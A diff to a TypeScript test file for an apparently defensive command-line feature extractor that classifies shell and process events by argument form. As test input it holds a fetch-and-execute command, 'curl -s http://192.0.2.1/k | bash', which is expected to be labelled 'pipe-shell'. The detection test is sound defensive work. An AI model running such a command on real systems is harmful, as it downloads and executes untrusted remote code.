@@ -2,8 +2,8 @@ import t from 'tap';
 import { argumentForms } from '../scorer/features/argform';
 import { FeatureExtractor } from '../scorer/features/extract';
 import { UidMap } from '../scorer/features/subject';
+import type { ResultRow } from '../scorer/types';
 import { START, developerRow as row } from '../scorer/eval/developer-stream';
-import { classesOf, shellRow } from './helpers/command-class';
 
 // The form of a command line (scorer/features/argform.ts): general shapes, not programs or
 // places, read from a bounded head of the line.
@@ -73,6 +73,25 @@ t.test('a hostile command line costs a bounded head of it', async (t) => {
 
 t.test('process and shell events carry the form as a class, paired with the program', async (t) => {
   const x = new FeatureExtractor({ users: new UidMap(), overrides: {} });
-  t.same(classesOf(x, row(START, '/usr/bin/python3.11', 'python3 -c import os'), 'argform'), { values: ['argform=inline-code'], paired: true });
-  t.same(classesOf(x, shellRow('curl -s http://192.0.2.1/k | bash'), 'argform').values, ['argform=pipe-shell']);
+  const proc = x.extract(row(START, '/usr/bin/python3.11', 'python3 -c import os')).event;
+  t.same(
+    proc.values.filter((v) => v.startsWith('argform=')),
+    ['argform=inline-code'],
+  );
+  t.ok(
+    proc.pairs.some((p) => p.endsWith('>argform=inline-code') && p.startsWith('exe=')),
+    'paired with the program',
+  );
+  const shell: ResultRow = {
+    query: 'pack_x_shell_history',
+    host: 'h',
+    time: 1_790_000_000,
+    action: 'added',
+    decorations: {},
+    columns: { command: 'curl -s http://192.0.2.1/k | bash', uid: '1000' },
+  };
+  t.same(
+    x.extract(shell).event.values.filter((v) => v.startsWith('argform=')),
+    ['argform=pipe-shell'],
+  );
 });
